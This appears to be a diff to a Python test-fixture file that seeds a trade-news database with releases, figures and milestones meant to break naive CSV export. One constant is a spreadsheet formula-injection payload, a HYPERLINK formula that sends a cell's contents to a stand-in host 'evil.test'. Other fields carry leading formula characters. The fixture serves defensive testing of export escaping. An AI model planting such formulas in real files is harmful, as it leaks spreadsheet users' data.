@@ -8,7 +8,7 @@ from datetime import datetime, timedelta, timezone
 
 from sqlalchemy.orm import Session
 
-from storage.sql.models import Feed, FigureRow, Release, ReleaseTopic
+from storage.sql.models import Feed, FigureRow, MilestoneRow, Release, ReleaseTopic
 
 T0 = datetime(2024, 7, 1, 9, tzinfo=timezone.utc)
 TOPIC = "china-kazakhstan"
@@ -108,3 +108,41 @@ def fill_figures(s: Session) -> dict[str, Feed]:
     older = release(s, w["Silk Road Daily"], "Bilateral trade in 2022", "Bilateral trade was $31.5 billion.", day=2)
     figure(s, older, 0, 31.5e9, "2022", measure=None, subject="bilateral trade")
     return w
+
+
+def milestone(s: Session, r: Release, position: int, date: str, event: str, status: str = "happened") -> None:
+    s.add(MilestoneRow(release_id=r.id, position=position, year=int(date[:4]), date=date, event=event,
+                       sentence=f"On {date}: {event}.", status=status, event_key=f"{date[:4]}|{event.lower()}"))
+    s.flush()
+
+
+FORMULA_TITLE = '=HYPERLINK("https://evil.test/?leak="&A1,"Wheat deal")'
+MULTILINE_TITLE = 'Grain, rail and "ports":\nan update, in two lines'
+EVIL_FEED = "=Evil Feed, Ltd"
+
+
+def fill_export(s: Session) -> dict[str, Release]:
+    """Releases, figures and milestones whose text is what breaks naive CSV: commas, quotes,
+    line breaks, cells a spreadsheet runs as formulas (= + - @, a tab), other scripts; a
+    story carried twice; a release on two topics, one off the topic, one without a link or
+    a publication date."""
+    w = {name: feed(s, name) for name in ("Astana Wire", "Steppe News", EVIL_FEED)}
+    lead = release(s, w["Astana Wire"], 'Wheat exports, a "record" year', "Exports rose.", day=10, topic=TOPIC)
+    s.add(ReleaseTopic(release_id=lead.id, topic_id="grain", score=0.8, reasons=[]))
+    figure(s, lead, 0, 41e9, "2023")
+    milestone(s, lead, 0, "2025-03-01", "the rail link opens", "announced")
+    copy = release(s, w["Steppe News"], 'Wheat exports, a "record" year', "Exports rose.", day=10,
+                   story=lead.story_id, topic=TOPIC)
+    figure(s, copy, 0, 41e9, "2023")
+    evil = release(s, w[EVIL_FEED], FORMULA_TITLE, "Trade fell.", day=12, topic=TOPIC)
+    figure(s, evil, 0, -3.2, "2024", measure="trade/cn-kz/growth", subject="+growth of trade", unit="%",
+           kind="percent", text="-3.2%")
+    milestone(s, evil, 0, "2019", '@the "deal", signed\nat the border')
+    off = release(s, w["Steppe News"], MULTILINE_TITLE, "Ports were busy.", day=14, url=None)
+    figure(s, off, 0, 1500, None, measure=None, subject=None, unit=None, kind="count", text="1,500")
+    milestone(s, off, 0, "2024-06", "-\tthe port reopens")
+    late = release(s, w["Astana Wire"], "\tTabs +plus Қазақстан 中文 العربية 🚀", "Text.", day=40, topic=TOPIC)
+    late.published_at = None
+    s.flush()
+    figure(s, late, 0, 0.5, "2024-Q3", text="$0.5")
+    return {"lead": lead, "copy": copy, "evil": evil, "off": off, "late": late}
